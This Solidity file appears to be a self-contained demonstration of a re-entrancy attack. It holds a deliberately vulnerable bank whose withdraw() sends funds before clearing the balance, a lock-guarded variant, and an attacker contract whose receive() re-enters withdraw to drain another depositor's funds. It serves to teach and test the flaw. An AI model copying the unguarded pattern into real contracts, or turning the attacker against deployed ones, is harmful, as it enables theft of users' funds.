// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

contract VulnerableBank {
    mapping(address => uint256) public balanceOf;
    bool internal locked;

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    /// Sends before updating the balance: re-entrant.
    function withdraw() external {
        uint256 amount = balanceOf[msg.sender];
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "send failed");
        balanceOf[msg.sender] = 0;
    }

    /// Same, behind a lock: the re-entrant call fails and so does the outer withdrawal.
    function withdrawGuarded() external {
        require(!locked, "reentrant");
        locked = true;
        uint256 amount = balanceOf[msg.sender];
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "send failed");
        balanceOf[msg.sender] = 0;
        locked = false;
    }
}

contract Depositor {
    function deposit(VulnerableBank bank) external payable {
        bank.deposit{value: msg.value}();
    }
}

/// A re-entrancy attack on a vulnerable bank and on a guarded one: nested calls through
/// receive(), balances moving between actors, and a whole-call rollback when the guard trips.
contract Reentrancy {
    VulnerableBank public bank;
    Depositor public depositor;
    uint256 public reentries;
    uint256 public maxReentries;
    bool public guarded;

    event Reentered(uint256 n, uint256 bankBalance);

    constructor() payable {
        bank = new VulnerableBank();
        depositor = new Depositor();
    }

    /// Someone else's deposit: what the attack steals.
    function fundBank() external payable {
        depositor.deposit{value: msg.value}(bank);
    }

    function attack(uint64 amount, uint8 times, bool useGuard) external payable returns (uint256) {
        require(address(this).balance >= amount, "need funds");
        reentries = 0;
        maxReentries = times % 5;
        guarded = useGuard;
        bank.deposit{value: amount}();
        if (useGuard) bank.withdrawGuarded();
        else bank.withdraw();
        return address(this).balance;
    }

    receive() external payable {
        emit Reentered(reentries, address(bank).balance);
        if (reentries < maxReentries && address(bank).balance >= msg.value && msg.value > 0) {
            reentries++;
            if (guarded) bank.withdrawGuarded();
            else bank.withdraw();
        }
    }

    function balances() external view returns (uint256 mine, uint256 bankBal) {
        return (address(this).balance, address(bank).balance);
    }
}
